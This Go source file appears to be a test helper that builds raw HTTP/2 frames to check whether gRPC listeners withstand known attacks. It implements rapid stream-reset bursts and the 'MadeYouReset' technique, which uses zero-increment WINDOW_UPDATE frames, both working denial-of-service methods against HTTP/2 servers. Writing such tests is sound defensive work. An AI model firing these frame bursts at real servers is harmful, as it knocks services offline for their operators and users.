// Package h2raw is a raw HTTP/2 client for the listeners' attack tests: it
// writes its own frames, so it can reset streams in a burst, make the
// server reset them (MadeYouReset) or leave out a call's request message,
// which a gRPC client never does.
package h2raw

import (
	"bufio"
	"bytes"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Conn is an HTTP/2 client connection that has sent its preface and
// SETTINGS (buffered until the first Flush or Streams).
type Conn struct {
	// Framer reads what the server sends; headers arrive decoded.
	Framer *http2.Framer
	c      net.Conn
	w      *bufio.Writer
	block  []byte // HPACK block of one call's headers
	next   uint32 // the next stream id
}

// Dial connects from the local address from to addr, with the whole
// connection bounded by deadline, and prepares the headers of a gRPC call
// to path.
func Dial(from net.Addr, addr, path string, deadline time.Time) (*Conn, error) {
	d := net.Dialer{LocalAddr: from, Timeout: 5 * time.Second}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	c.SetDeadline(deadline) // a hung server fails the test, not the run
	h := &Conn{c: c, w: bufio.NewWriter(c), next: 1}
	h.Framer = http2.NewFramer(h.w, c)
	h.Framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr},
		{":path", path}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	h.block = buf.Bytes() // literals only, so the block can be sent again
	h.w.WriteString(http2.ClientPreface)
	h.Framer.WriteSettings()
	return h, nil
}

// Streams writes n new streams' HEADERS, each followed by RST_STREAM if
// reset, and flushes.
func (h *Conn) Streams(n int, reset bool) error {
	for i := 0; i < n; i++ {
		id := h.next
		h.next += 2
		h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block, EndHeaders: true})
		if reset {
			h.Framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}
	return h.w.Flush()
}

// MadeYouReset writes n new streams' HEADERS, each followed by a
// WINDOW_UPDATE of increment 0 on the stream, a protocol error for which
// the server resets the stream itself (the "MadeYouReset" attack), and
// flushes.
func (h *Conn) MadeYouReset(n int) error {
	h.Framer.AllowIllegalWrites = true
	defer func() { h.Framer.AllowIllegalWrites = false }()
	for i := 0; i < n; i++ {
		id := h.next
		h.next += 2
		h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block, EndHeaders: true})
		h.Framer.WriteWindowUpdate(id, 0)
	}
	return h.w.Flush()
}

// Flush sends what is buffered (the preface and SETTINGS at first).
func (h *Conn) Flush() error { return h.w.Flush() }

// Close closes the connection.
func (h *Conn) Close() error { return h.c.Close() }
